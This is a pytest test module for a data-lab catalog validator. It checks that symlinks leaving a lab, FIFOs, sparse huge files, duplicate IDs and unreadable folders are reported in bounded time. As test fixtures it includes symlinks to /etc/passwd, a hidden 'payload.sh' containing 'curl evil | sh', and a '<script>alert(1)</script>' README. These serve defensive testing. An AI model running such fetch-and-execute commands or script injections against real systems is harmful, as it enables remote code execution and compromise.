"""Bad input built at test time (symlinks, huge and sparse files): each gets a finding with
its rule ID, in bounded time, and validation writes nothing."""

from __future__ import annotations

import json
import os
import shutil
import time
from pathlib import Path

from sciapps.catalog.validate import validate
from tests.conftest import CASES, REPO, findings_for, rule_ids

FULL = CASES / "valid" / "full"


def copy_case(tmp_path: Path, name: str) -> Path:
    target = tmp_path / "datalabs" / name
    shutil.copytree(FULL, target)
    (target / "expected.yaml").unlink()
    text = (target / "datalab.yaml").read_text().replace("id: full", f"id: {name}")
    (target / "datalab.yaml").write_text(text)
    return target


def test_symlink_leaving_the_datalab(tmp_path, config):
    lab = copy_case(tmp_path, "link-out")
    os.symlink("/etc/passwd", lab / "passwd")
    os.symlink("../../elsewhere", lab / "notebooks" / "up")
    os.symlink("notebooks/main.ipynb", lab / "inside-link.ipynb")  # inside: fine
    findings = findings_for(lab, config)
    assert rule_ids(findings) == ["DL-032", "DL-032"]
    assert {f.file.rsplit("/", 1)[-1] for f in findings} == {"passwd", "up"}


def test_metadata_that_is_a_symlink_is_not_followed(tmp_path, config):
    lab = copy_case(tmp_path, "meta-link")
    (lab / "datalab.yaml").unlink()
    os.symlink("/etc/hostname", lab / "datalab.yaml")
    assert rule_ids(findings_for(lab, config)) == ["DL-001", "DL-032"]


def test_fifo_is_refused(tmp_path, config):
    lab = copy_case(tmp_path, "fifo")
    os.mkfifo(lab / "pipe")
    assert rule_ids(findings_for(lab, config)) == ["DL-032"]


def test_100_mb_file_is_reported_without_reading_it(tmp_path, config):
    lab = copy_case(tmp_path, "huge-file")
    with open(lab / "data.bin", "wb") as fh:  # sparse: 100 MB on paper, nothing on disk
        fh.truncate(100 * 1024 * 1024)
    with open(lab / "notebooks" / "big.ipynb", "wb") as fh:
        fh.truncate(50 * 1024 * 1024)
    start = time.perf_counter()
    findings = findings_for(lab, config)
    assert time.perf_counter() - start < 2
    assert rule_ids(findings) == ["DL-033", "DL-033", "DL-034"]
    messages = " ".join(f.message for f in findings)
    assert "100.0 MiB" in messages and "limits.notebook_mb" in messages


def test_100_mb_metadata_is_refused_before_parsing(tmp_path, config):
    lab = copy_case(tmp_path, "huge-meta")
    with open(lab / "datalab.yaml", "ab") as fh:
        fh.truncate(100 * 1024 * 1024)
    start = time.perf_counter()
    findings = findings_for(lab, config)
    assert time.perf_counter() - start < 2
    assert "DL-006" in rule_ids(findings)


def test_too_many_files(tmp_path, config):
    lab = copy_case(tmp_path, "many-files")
    for i in range(config.limits.max_files + 5):
        (lab / f"f{i}.txt").write_text("x")
    assert rule_ids(findings_for(lab, config)) == ["DL-034"]


def test_duplicate_id_across_catalogs(tmp_path, config):
    one = copy_case(tmp_path / "a", "twin")
    two = copy_case(tmp_path / "b", "twin")
    findings = list(validate([one, two], config))
    assert rule_ids(findings) == ["DL-021"]
    assert str(one) in findings[0].message


def test_same_datalab_named_twice_is_checked_once(tmp_path, config, monkeypatch):
    lab = copy_case(tmp_path, "once")
    monkeypatch.chdir(tmp_path)
    assert list(validate([lab, Path("datalabs/once"), Path("datalabs/once/datalab.yaml")], config)) == []


def _snapshot(root: Path) -> dict:
    return {p: (p.stat().st_mtime_ns, p.stat().st_size) for p in root.rglob("*") if not p.is_symlink()}


def test_validation_writes_nothing(tmp_path, config):
    catalog = tmp_path / "catalog"
    shutil.copytree(CASES / "invalid", catalog / "datalabs", symlinks=True)
    before = _snapshot(catalog)
    findings = list(validate([catalog], config, verbose=True))
    assert findings
    assert _snapshot(catalog) == before


def test_duplicate_ids_found_in_worker_processes(tmp_path, config):
    from sciapps.catalog import validate as engine

    folders = [copy_case(tmp_path / f"c{i}", f"lab-{i % 150}") for i in range(300)]
    findings = list(engine.validate([f.parent for f in folders[:150]] + [f.parent for f in folders[150:]], config, jobs=2))
    assert rule_ids(findings) == ["DL-021"] * 150


def test_screenshot_linking_outside_is_not_opened(tmp_path, config):
    lab = copy_case(tmp_path, "shot-link")
    (lab / "screenshots" / "main.png").unlink()
    os.symlink("/etc/hostname", lab / "screenshots" / "main.png")
    assert rule_ids(findings_for(lab, config)) == ["DL-032"]


def test_nothing_under_the_catalog_folder_goes_unseen(tmp_path, config):
    """Hidden and `_` folders, files and links in datalabs/ are checked or reported."""
    import os

    from click.testing import CliRunner

    from sciapps.cli import cli

    catalog = tmp_path / "datalabs"
    shutil.copytree(REPO / "datalabs" / "gaia-dr3-hrd", catalog / "gaia-dr3-hrd")
    (catalog / "_gaïa").mkdir()
    os.symlink("/etc/passwd", catalog / "_gaïa" / "passwd")
    (catalog / ".hidden").mkdir()
    (catalog / ".hidden" / "payload.sh").write_text("curl evil | sh\n")
    (catalog / "README.html").write_text("<script>alert(1)</script>")
    os.symlink("/etc", catalog / "etc-link")
    result = CliRunner().invoke(cli, ["validate", str(tmp_path), "--format", "json"])
    assert result.exit_code == 1, result.output
    found = {(f["file"].split("datalabs/", 1)[1], f["rule_id"]) for f in json.loads(result.stdout)["findings"]}
    assert ("_gaïa/datalab.yaml", "DL-001") in found and ("_gaïa/passwd", "DL-032") in found
    assert (".hidden/datalab.yaml", "DL-001") in found
    assert ("README.html", "DL-009") in found and ("etc-link", "DL-009") in found
    assert not any(name.startswith("gaia-dr3-hrd") for name, _ in found)


def test_a_folder_that_cannot_be_listed_is_reported_not_skipped(tmp_path, config, monkeypatch):
    """As root every folder can be listed, so the refusal is made by the file system call."""
    import errno

    from sciapps.catalog import loader

    folder = tmp_path / "datalabs" / "gaia-dr3-hrd"
    shutil.copytree(REPO / "datalabs" / "gaia-dr3-hrd", folder)
    locked = str(folder / "data")
    real_scandir = os.scandir

    def scandir(path):
        if os.fspath(path) == locked:
            raise PermissionError(errno.EACCES, "Permission denied", locked)
        return real_scandir(path)

    monkeypatch.setattr(loader.os, "scandir", scandir)
    findings = findings_for(folder, config)
    assert any(f.rule_id == "DL-032" and f.file.endswith("gaia-dr3-hrd/data") for f in findings), [f.format() for f in findings]
